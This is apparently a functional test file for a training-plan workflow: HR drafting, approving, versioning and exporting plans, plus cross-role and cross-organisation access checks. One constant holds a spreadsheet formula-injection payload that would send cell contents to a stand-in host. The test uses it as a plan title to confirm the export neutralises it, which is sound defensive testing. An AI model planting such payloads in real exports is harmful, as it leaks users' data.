"""Training plans over HTTP, as the training department (HR) and the approvers use
them: an ad-hoc plan made, refused on bad input with the input kept, given items,
submitted, locked while it waits, approved by the head of the training department
and exported; an annual plan returned by management, changed and approved as version
2; quarterly plans refine only the organisation's own annual plans; learners and
another organisation's HR reach nothing."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from sqlalchemy import select

from lti_tool.approvals.models import MANAGEMENT, TRAINING_HEAD
from lti_tool.plans.models import TrainingPlan
from tests.functional.approvals.test_approvals import appoint, decide, token
from tests.functional.hr.conftest import course_link, hr_link, people  # noqa: F401  (fixtures)
from tests.functional.hr.test_organisations import crowd_on, other_company  # noqa: F401  (fixture)
from tests.functional.practical.conftest import csrf, settings_overrides  # noqa: F401  (fixture)
from tests.unit.certificates.test_issuing import pdf_text

HOSTILE = '=HYPERLINK("http://x/?leak="&A1,"Click")'


def new_plan(hr, base: str, **values):
    hr.get(f"{base}/manage/plans/")
    return hr.submit("new-plan", values)


def plan_id(hr) -> int:
    return int(hr.url.rstrip("/").rsplit("/", 1)[-1].split("#")[0])


def test_an_ad_hoc_plan_goes_from_draft_to_approved_and_is_exported(people, platform, app, db_session):
    base = platform.tool_base_url
    head = people("learner")
    hr = people("hr")
    appoint(hr, base, "E1001", TRAINING_HEAD)

    # No reason given for an ad-hoc plan: refused on the form, what was typed kept.
    refused = new_plan(hr, base, kind="adhoc", year="2027", title="新品 X3 上市培训", reason="")
    assert refused.status_code == 422 and "请说明需要这项临时培训的原因" in hr.page.text_of("plan-errors")
    assert ("title", "新品 X3 上市培训") in hr.page.form("new-plan").fields
    assert new_plan(hr, base, kind="adhoc", year="2027", title=HOSTILE, reason="new_product",
                    urgency="urgent").status_code == 200
    document = plan_id(hr)
    assert "草稿" in hr.page.text_of("plan-status") and "临时培训计划" in hr.page.text

    # Items: a course that is not in the catalogue is refused; a catalogue course is added.
    assert hr.submit("add-item", {"course_id": "no-such-course", "mode": "internal"}).status_code == 422
    assert "请选择课程目录中的课程" in hr.page.text_of("item-errors")
    assert hr.submit("add-item", {"course_id": "basics", "mode": "practical", "month": "3", "place": "二号车间",
                                  "trainer": "王芳", "hours": "3.50"}).status_code == 200
    items = hr.page.text_of("plan-items")
    assert "实践操作培训" in items and "二号车间" in items and "3.5" in items

    # Submitted: the approval page, and the plan locked while it waits.
    assert hr.submit("submit-plan").status_code == 200 and "/approvals/" in hr.url
    hr.get(f"{base}/manage/plans/{document}")
    assert hr.page.text_of("locked") and not [f for f in hr.page.forms if f.id in ("add-item", "submit-plan")]
    changed = hr.session.post(f"{base}/manage/plans/{document}", timeout=15, data={
        "csrf_token": csrf(hr), "title": "改过的", "year": "2027", "reason": "other"})
    assert changed.status_code == 409  # a forged change while it waits
    assert hr.session.post(f"{base}/manage/plans/{document}/items", timeout=15, data={
        "csrf_token": csrf(hr), "topic": "x", "mode": "online"}).status_code == 409
    db_session.expire_all()
    assert db_session.get(TrainingPlan, document).title == HOSTILE and len(db_session.get(TrainingPlan, document).items) == 1

    # The head of the training department approves it from their inbox.
    head.get(f"{base}/approvals/")
    request_link = head.page.link("=HYPERLINK")["href"]
    request_id = int(request_link.rstrip("/").rsplit("/", 1)[-1])
    assert decide(head, base, request_id, "approve", "同意，尽快安排。").status_code == 200
    hr.get(f"{base}/manage/plans/{document}")
    assert "已批准" in hr.page.text_of("plan-status") and "同意，尽快安排。" in hr.page.text
    hr.get(f"{base}/manage/plans/")
    assert "已批准" in hr.page.text_of("plans")

    # The spreadsheet: the plan and its item, the hostile title a plain string.
    sheet = hr.session.get(f"{base}/manage/plans/{document}.xlsx", timeout=15)
    assert sheet.status_code == 200
    book = load_workbook(io.BytesIO(sheet.content))
    fields = {row[0].value: row[1] for row in book["计划 Plan"].iter_rows()}
    assert fields["标题 Title"].value == HOSTILE and fields["标题 Title"].data_type == "s"
    assert fields["原因 Reason"].value == "新产品上市" and fields["紧急程度 Urgency"].value == "紧急"
    item = [c.value for c in list(book["项目 Items"].iter_rows())[1]]
    assert item[0] == "基础课程" and item[2] == "实践操作培训" and item[3] == 3 and item[8] == 3.5


def test_an_annual_plan_is_returned_by_management_changed_and_approved_as_version_two(
        people, platform, app, db_session):
    base = platform.tool_base_url
    head, boss = people("learner"), people("learner2")
    hr = people("hr")
    appoint(hr, base, "E1001", TRAINING_HEAD)
    appoint(hr, base, "E1002", MANAGEMENT)
    new_plan(hr, base, kind="annual", year="2027", title="2027 年度售后培训计划")
    document = plan_id(hr)
    assert hr.submit("submit-plan").status_code == 422  # nothing in it yet
    assert "请至少添加一个项目" in hr.page.text_of("plan-errors")
    hr.submit("add-item", {"topic": "新能源车型维修", "mode": "external", "month": "5"})
    hr.submit("submit-plan")
    request_id = int(hr.url.rstrip("/").rsplit("/", 1)[-1])
    hr.get(f"{base}/hr/")
    hr.follow("培训管理")  # the HR console's training management section
    assert "1 项待审批" in hr.page.text_of("manage-sections")

    # The annual plan waits for management, not for the head of the training department.
    head.get(f"{base}/approvals/")
    assert "2027 年度售后培训计划" not in head.page.text_of("waiting")
    assert head.session.post(f"{base}/approvals/{request_id}/decide", timeout=15, data={
        "csrf_token": token(head, base), "action": "approve", "step": "0"}).status_code == 404  # no step of theirs
    assert decide(boss, base, request_id, "return", "请补充预算说明。").status_code == 200

    hr.get(f"{base}/manage/plans/{document}")
    assert "退回修改" in hr.page.text_of("plan-status")
    assert hr.submit("plan-fields", {"goals": "全员完成新能源维修培训；预算 20 万元。"}).status_code == 200
    hr.submit("submit-plan")
    second = int(hr.url.rstrip("/").rsplit("/", 1)[-1])
    assert decide(boss, base, second, "approve").status_code == 200
    hr.get(f"{base}/manage/plans/{document}")
    assert "已批准 · 第 2 版" in hr.page.text_of("plan-status")
    assert "请补充预算说明。" in hr.page.text and "第 1 版" in hr.page.text  # the history of both versions
    pdf = hr.session.get(f"{base}/manage/plans/{document}.pdf", timeout=30)
    assert pdf.status_code == 200 and pdf.headers["Content-Type"] == "application/pdf"
    text = pdf_text(pdf.content)
    for seen in ("2027 年度售后培训计划", "新能源车型维修", "外部培训", "请补充预算说明。", "李娜", "已批准"):
        assert seen in text, seen

    # A quarterly plan refines this annual plan, never another organisation's.
    assert new_plan(hr, base, kind="quarterly", year="2027", quarter="2", title="2027 年第二季度计划",
                    annual_plan_id=str(document)).status_code == 200
    quarterly = db_session.scalars(select(TrainingPlan).where(TrainingPlan.kind == "quarterly")).one()
    assert (quarterly.quarter, quarterly.annual_plan_id) == (2, document)
    assert "2027 · 2027 年度售后培训计划" in hr.page.text


def test_learners_and_another_organisations_hr_reach_no_plan(people, platform, app, db_session, other_company):
    base = platform.tool_base_url
    learner = people("learner")
    hr = people("hr")
    new_plan(hr, base, kind="annual", year="2027", title="本公司年度计划")
    document = plan_id(hr)
    for path in ("/manage/plans/", f"/manage/plans/{document}", f"/manage/plans/{document}.xlsx"):
        assert learner.session.get(base + path, timeout=15).status_code == 403, path
    assert learner.session.post(f"{base}/manage/plans/", timeout=15, data={
        "csrf_token": token(learner, base), "kind": "adhoc", "year": "2027", "title": "x",
        "reason": "other"}).status_code == 403
    assert hr.session.post(f"{base}/manage/plans/", timeout=15, data={  # no CSRF token
        "kind": "annual", "year": "2027", "title": "伪造"}).status_code == 400

    stranger = crowd_on(other_company)
    try:
        their_hr = stranger("hr")
        for path in (f"/manage/plans/{document}", f"/manage/plans/{document}.xlsx"):
            assert their_hr.session.get(base + path, timeout=15).status_code == 404, path
        their_hr.get(f"{base}/manage/plans/")
        assert "本公司年度计划" not in their_hr.page.text
        token_ = csrf(their_hr)
        for path in (f"/manage/plans/{document}", f"/manage/plans/{document}/items", f"/manage/plans/{document}/submit"):
            assert their_hr.session.post(base + path, timeout=15, data={
                "csrf_token": token_, "title": "x", "year": "2027", "topic": "x", "mode": "online"}).status_code == 404
        # Their quarterly plan cannot claim our annual plan.
        refused = their_hr.submit("new-plan", {"kind": "quarterly", "year": "2027", "quarter": "1", "title": "x",
                                               "annual_plan_id": str(document)})
        assert refused.status_code == 422
    finally:
        stranger.close()
    db_session.expire_all()
    assert [p.title for p in db_session.scalars(select(TrainingPlan))] == ["本公司年度计划"]
